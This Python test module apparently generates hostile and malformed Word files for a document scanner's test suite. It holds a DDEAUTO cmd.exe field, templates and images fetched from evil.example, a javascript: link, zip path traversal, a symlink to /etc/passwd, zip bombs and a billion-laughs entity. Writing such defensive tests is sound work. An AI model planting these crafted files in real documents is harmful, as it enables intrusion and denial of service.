"""Word documents, and what else is a zip, as strangers may make them."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
from collections.abc import Iterator, Mapping

from tests.mentoring.hostile_pictures import CANARY, SEEN, Made, archive, telling_jpeg, telling_png

TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
CORE = f'<coreProperties xmlns:dc="d"><dc:creator>{CANARY}</dc:creator></coreProperties>'
WORDS = f'<w:document xmlns:w="w"><w:p>{SEEN}</w:p></w:document>'


def relations(*rows: tuple[str, str, str]) -> str:
    lines = [
        f'<Relationship Id="r{i}" Type="{kind}" Target="{to}"{mode}/>'
        for i, (kind, to, mode) in enumerate(rows)
    ]
    return f'<Relationships xmlns="{PACKAGE}">{"".join(lines)}</Relationships>'


OUT = ' TargetMode="External"'
ROOT = relations(
    (f"{RELATION}/officeDocument", "word/document.xml", ""),
    (f"{PACKAGE}/metadata/core-properties", "docProps/core.xml", ""),
    (f"{RELATION}/extended-properties", "docProps/app.xml", ""),
    (f"{RELATION}/custom-properties", "docProps/custom.xml", ""),
    (f"{PACKAGE}/metadata/thumbnail", "docProps/thumbnail.jpeg", ""),
)
PARTS: Mapping[str, str | bytes] = {
    "[Content_Types].xml": TYPES,
    "_rels/.rels": ROOT,
    "word/document.xml": WORDS,
    "docProps/core.xml": CORE,
    "docProps/app.xml": f"<Properties><Company>{CANARY}</Company></Properties>",
    "docProps/custom.xml": f"<Properties>{CANARY}</Properties>",
    "docProps/thumbnail.jpeg": CANARY.encode(),
}


def docx(comment: bytes = b"", **parts: str | bytes) -> bytes:
    return archive({**PARTS, **{name.replace("__", "/"): part for name, part in parts.items()}}, comment)


def with_part(name: str, part: str | bytes = "x") -> bytes:
    return archive({**PARTS, name: part})


def related(kind: str, to: str, mode: str = OUT) -> bytes:
    return with_part("word/_rels/document.xml.rels", relations((f"{RELATION}/{kind}", to, mode)))


def linked_away() -> bytes:
    info = zipfile.ZipInfo("word/link.xml")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as made:
        made.writestr(info, "/etc/passwd")
    return out.getvalue()


def moved_core() -> bytes:
    """Its properties lie where nobody looks for them."""
    parts = {name: part for name, part in PARTS.items() if name != "docProps/core.xml"}
    kept = ROOT.replace("docProps/core.xml", "word/who.xml")
    return archive({**parts, "_rels/.rels": kept, "word/who.xml": CORE})


def lying() -> bytes:
    """A part that is larger than the archive's directory says."""
    data = bytearray(with_part("word/more.xml", "x" * 5000))
    size = struct.pack("<I", 5000)
    return bytes(data).replace(size, struct.pack("<I", 50))


def field_of(words: str) -> str:
    return f'<w:document xmlns:w="w"><w:instrText>{words}</w:instrText></w:document>'


def documents() -> Iterator[Made]:
    yield "author.docx", docx(comment=CANARY.encode()), "docx"
    yield "moved.docx", moved_core(), "docx"
    yield "link.docx", related("hyperlink", "https://example.org/"), "docx"
    yield "photo.docx", with_part("word/media/image1.jpeg", telling_jpeg()), "docx"
    yield "drawing.docx", with_part("word/media/image1.png", telling_png()), "docx"
    yield "cut photo.docx", with_part("word/media/image1.jpeg", telling_jpeg()[:300]), "broken"
    yield "cut drawing.docx", with_part("word/media/image1.png", telling_png()[:300]), "broken"
    yield "split.docx", docx() + CANARY.encode(), "docx"
    yield from acting_documents()
    yield from false_archives()


def acting_documents() -> Iterator[Made]:
    yield "macro.docx", with_part("word/vbaProject.bin"), "macros"
    macros = TYPES.replace("application/xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
    yield "macro type.docx", with_part("[Content_Types].xml", macros), "macros"
    yield "object.docx", with_part("word/embeddings/oleObject1.bin"), "objects"
    yield "control.docx", with_part("word/activeX/activeX1.xml"), "objects"
    yield "program.docx", with_part("word/media/run.exe"), "objects"
    yield "template.docx", related("attachedTemplate", "https://evil.example/x.dotm"), "fetches"
    yield "picture from elsewhere.docx", related("image", "http://evil.example/x.png"), "fetches"
    yield "share.docx", related("image", "file:///c:/x.png", ""), "fetches"
    yield "script link.docx", related("hyperlink", "javascript:alert(1)"), "fetches"
    yield "chunk.docx", related("aFChunk", "x.htm", ""), "fetches"
    yield "field.docx", with_part("word/document.xml", field_of("DDEAUTO c:/cmd.exe")), "fetches"
    split = "<w:instrText>INCLUDE</w:instrText><w:instrText>PICTURE x</w:instrText>"
    yield "field in two.docx", with_part("word/document.xml", f'<w:d xmlns:w="w">{split}</w:d>'), "fetches"


def false_archives() -> Iterator[Made]:
    yield "bomb.docx", with_part("word/big.xml", bytes(49_000_000)), "archive"
    yield "bigger.docx", with_part("word/big.xml", bytes(60_000_000)), "archive"
    yield "many.docx", docx(**{f"word__{i}.xml": "x" for i in range(600)}), "archive"
    yield "archive inside.docx", with_part("word/x.xml", archive({"a": "b"})), "archive"
    yield "way up.docx", with_part("../../evil.xml"), "archive"
    yield "root.docx", with_part("/etc/evil.xml"), "archive"
    yield "drive.docx", with_part("c:/evil.xml"), "archive"
    yield "link to a file.docx", linked_away(), "archive"
    yield "twice.docx", with_part("WORD/document.xml"), "archive"
    yield "lying.docx", lying(), "archive"
    laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
    yield "laughs.docx", with_part("word/settings.xml", laughs), "archive"
    yield "bad relations.docx", with_part("_rels/.rels", "<no"), "broken"
    yield "cut.docx", docx()[:-40], "archive"
    yield "beginning alone.docx", b"PK\x03\x04", "archive"
    yield "table.docx", archive({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>"}), "zip"
    yield "java.docx", archive({"META-INF/MANIFEST.MF": "x", "a.class": "x"}), "zip"
    yield "folder.zip", archive({"notes.txt": "x"}), "zip"
